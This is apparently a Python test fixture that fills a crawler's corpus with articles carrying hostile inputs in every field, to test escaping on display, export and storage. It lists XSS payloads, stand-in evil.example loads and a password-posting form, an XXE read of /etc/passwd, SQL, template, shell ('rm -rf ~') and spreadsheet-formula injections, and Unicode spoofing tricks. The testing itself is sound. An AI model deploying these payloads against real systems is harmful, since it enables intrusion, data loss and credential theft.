"""Articles that attack whoever shows, exports or opens them, stored as a crawl stores what it reads."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from builders import make_article, make_link, make_page, make_reading

from crawler.corpus import Corpus
from crawler.corpus.run import Run
from crawler.reasons import Reason
from crawler.records import Article, Kind, Reading, Seed, Statement, Target, Verdict
from crawler.settings import Settings

START = "https://start.example/story"
OWN = "window.__owned=1;alert(1)"
WORD = "lighthouse"  # stands in every one of them, so that one search finds them all
PARAGRAPHS, LINE = 100_000, 5_000_000

ATTACKS = {
    # markup that runs
    "script": f"<script>{OWN}</script>",
    "script, capitals": f"<ScRiPt\n>{OWN}</ScRiPt >",
    "script, nested": f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    "script, half open": f"<script>{OWN}",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "module": f'<script type="module">{OWN}</script>',
    "image": f'<img src=x onerror="{OWN}">',
    "image, slashes": f"<img/src=x/onerror={OWN}>",
    "image from elsewhere": '<img src="https://evil.example/pixel.gif">',
    "picture source": f'<picture><source srcset="x" onerror="{OWN}"><img src=x onerror="{OWN}"></picture>',
    "svg": f'<svg onload="{OWN}"><circle r="9"/></svg>',
    "svg script": f"<svg><script>{OWN}</script></svg>",
    "svg animate":
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg style": f"<svg><style><img src=x onerror={OWN}></style></svg>",
    "svg foreign":
        f"<svg><foreignObject><iframe srcdoc='<script>parent.{OWN}</script>'></foreignObject></svg>",
    "mathml": f'<math><maction actiontype="statusline" xlink:href="javascript:{OWN}">x</maction></math>',
    "mathml mutation": f"<math><mtext><table><mglyph><style><img src onerror={OWN}></style></mglyph></table>",
    "body": f'<body onload="{OWN}" onpageshow="{OWN}">',
    "details": f'<details open ontoggle="{OWN}">x</details>',
    "autofocus": f'<input autofocus onfocus="{OWN}">',
    "video": f'<video src=x onerror="{OWN}"><source onerror="{OWN}"></video>',
    "marquee": f'<marquee onstart="{OWN}">x</marquee>',
    "iframe": f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{OWN}</script>"></object>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "style attribute": '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
    "form":
        '<form action="https://evil.example/"><input name="p" type="password"><button>Log in</button></form>',
    "template": f"<template><img src=x onerror={OWN}></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={OWN}>"></noscript>',
    # ways out of where it stands
    "attribute": f'" onmouseover="{OWN}" autofocus onfocus="{OWN}" x="',
    "attribute, single": f"' onmouseover='{OWN}' autofocus onfocus='{OWN}' x='",
    "attribute, backquote": f"` onmouseover=`{OWN}`",
    "closing everything":
        f"--></title></style></textarea></script></article></main></body><script>{OWN}</script>",
    "comment": f"<!-- --!><img src=x onerror={OWN}> -->",
    "cdata": f"<![CDATA[<script>{OWN}</script>]]>",
    "cdata end": "]]>]]&gt;]]&#62;",
    "processing": "<?xml-stylesheet href='https://evil.example/x.xsl'?><?php echo 1 ?>",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY b "&e;&e;">]><x>&e;&b;</x>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &nosuch; &",
    "json in a page": '{"a":"</script><script>window.__owned=1</script>","__proto__":{"x":1}}\u2028\u2029',
    # addresses
    "javascript": f"javascript:{OWN}",
    "javascript, spaced": f"\x01 java\tscript\n:{OWN}",
    "javascript, capitals": f"JaVaScRiPt:{OWN}//https://x.example/",
    "data": f"data:text/html,<script>parent.{OWN}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "quoted address": f'https://evil.example/"onmouseover="{OWN}',
    "address with a name": "https://bank.example@evil.example/%0d%0aSet-Cookie:x=1",
    "not an address": "https://[::1/\\..//evil.example:99999999/?%zz#%",
    # languages of templates, queries and shells
    "template, double": "{{7*7}}{{''.__class__.__mro__}}{% include '/etc/passwd' %}{# gone #}",
    "template, dollar": "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[${7*7}]] %s %(x)s {0} {x!r}",
    "sql": "'; drop table articles; -- \" or 1=1 /* */ :q ?1 $1 @x",
    "search syntax": 'NEAR("a" AND * OR) NOT title:text ^ + {a b}: "unclosed',
    "marks of snippets": f"⟪<mark onclick={OWN}>⟫⟫⟪⟪",
    "shell": "$(touch /tmp/owned) `id` | rm -rf ~ ; & ../../../../etc/passwd\\..\\",
    "bibtex": "\\input{/etc/passwd} } @string{x} % {\\immediate\\write18{id}} ~ ^ _ # $",
    "csv": '",",\r\n"=1+1","\r"\n;\t|',
    # formulas of spreadsheets
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, tab": "\t=1+1",
    "formula, return": "\r=1+1",
    # characters
    "nul": "a\0b\0\0<script>\0alert(1)</script>",
    "controls": "".join(map(chr, (*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)))),
    "ansi": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x1b]8;;https://evil.example/\x07x\x9b31m",
    "bidi": "user\u202egnp.exe\u2066\u2067\u2068\u202a\u202b\u202d no way back",
    "zero width": "li\u200bght\u200chou\u200dse\u2060\ufeff\u00ad\u180e",
    "combining": "Z" + "\u0300\u0301\u0302\u0489" * 500 + "algo",
    "not characters": "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff\ue000\U000f0000",
    "replacement": "\ufffd\ufffd caf\xc3\xa9 Ã©",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳👍🏿" * 20,
    "tags of emoji": "🏴" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden prompt") + "\U000e007f",
    "right to left": "مرحبا بالعالم שלום 123 (abc) <b>עולם</b>",
    "vertical": "ᠮᠣᠩᠭᠣᠯ ཀྵྨླྺྼྻྂ ﷽﷽﷽ 𒐫𒐫 ꧅꧅",
    "homographs": "раураl.com ｓｃｒｉｐｔ ＜script＞ ʼ ＂ ＇ ﹤",
    "cases": "ŉ ǰ ΐ ß ﬃ İ ı ſ K Å",
    "spaces": "\u00a0\u1680\u2000\u2003\u2028\u2029\u202f\u205f\u3000\x85\x0b\x0c",
    "chinese": "灯塔<b>守望者</b>&灯塔'\"",
    "long word": "w" * 20_000,
    "long": "All work and no play. " * 5_000,
    "empty": "",
}  # fmt: skip
HALVES = {"text": "half \ud800 a pair", "title": "\udfff", "author": "\ud83d", "tags": ("\udc00",)}
"""Halves of surrogate pairs, by the field they are in: no database and no answer can carry them."""


def articles() -> dict[str, Article]:
    """Return name → article: each attack in all fields that a page can fill, and some that are too large."""
    attacks = {name: everywhere(attack, number) for number, (name, attack) in enumerate(ATTACKS.items())}
    return attacks | {
        "no title": make_article(f"A {WORD}.", title=None),
        "one line": make_article(f"{WORD} " + "x" * LINE),
        "one line of cjk": make_article(f"{WORD} " + "灯" * 200_000, language="zh"),
        "paragraphs": make_article("\n".join(["Here <b>is</b>", WORD, "a line."] * (PARAGRAPHS // 3))),
        "nothing but breaks": make_article("\n" * 5_000 + WORD + "\r\n\r\n\x0b\x0c\u2028"),
        "tags": make_article(f"Below a {WORD}.", tags=tuple(f"<i>{number}" for number in range(10_000))),
        "authors": make_article(
            f"Many of one {WORD}.", author="; ".join(f"A. {n} <b>" for n in range(5_000))
        ),
    }


def everywhere(attack: str, number: int) -> Article:
    """Return an article that says the same in all its fields; words of its own make it no copy of another."""
    own = " ".join(f"word{number}of{n}" for n in range(60))
    return make_article(
        f"{attack}\nThe {WORD} {attack} stands.\n{own}\n{attack}",
        title=attack, author=attack, site=attack, section=attack, tags=(attack, attack), description=attack,
        image=attack, licence=attack, canonical=attack, language=attack, declared_language=attack,
        published=attack, modified=attack, extractor=attack, mends=(attack,), origins={attack: attack},
    )  # fmt: skip


def reading(target: Target, name: str, article: Article) -> Reading:
    """Return what a fetch of such an article taught: links, verdicts and rights that attack too."""
    attack = ATTACKS.get(name, name)
    link = make_link(START, heading=attack, anchor=attack, path=attack)
    page = make_page(
        target.url, final_url=attack or None, detail=attack, headers={"content-type": attack, "etag": attack},
        address=attack, robots=attack, statements=(Statement("header", attack, attack),),
    )  # fmt: skip
    verdict = Verdict("relevance", 0.5, evidence=attack, parts={attack: 0.5})
    return make_reading(target, article, page=page, links=(link,), verdicts=(verdict,))


def fill(path: Path) -> dict[str, int]:
    """Store them all in a new corpus; return name → number of the article."""
    found = articles()
    with Corpus(path, create=True) as corpus:
        attack = ATTACKS["script"]
        corpus.plant(
            [Seed(attack, attack, title=attack, url=START, author=attack, site=attack, keywords=(attack,))]
        )
        run = Run.start(corpus, Settings())
        (start,) = run.claim(1)
        links = tuple(
            make_link(f"https://h{number}.example/{name.replace(' ', '-')}", anchor=name, position=number)
            for number, name in enumerate([*found, "gone"])
        )
        run.save([make_reading(start, make_article(f"Begins with a {WORD}."), links=links)])
        names = {link.url: link.anchor for link in links}
        numbers: dict[str, int] = {}
        while claimed := run.claim(50):
            for target in claimed:
                name = names[target.url]
                numbers[name] = int(target.id or 0)
                run.save([reading(target, name, found[name]) if name in found else refused(target)])
    return numbers


def refused(target: Target) -> Reading:
    """Return a page that answered with an attack only."""
    page = replace(make_page(target.url), status=410, reason=Reason.GONE, detail=ATTACKS["script"])
    return Reading(replace(target, kind=Kind.RELATED), page)
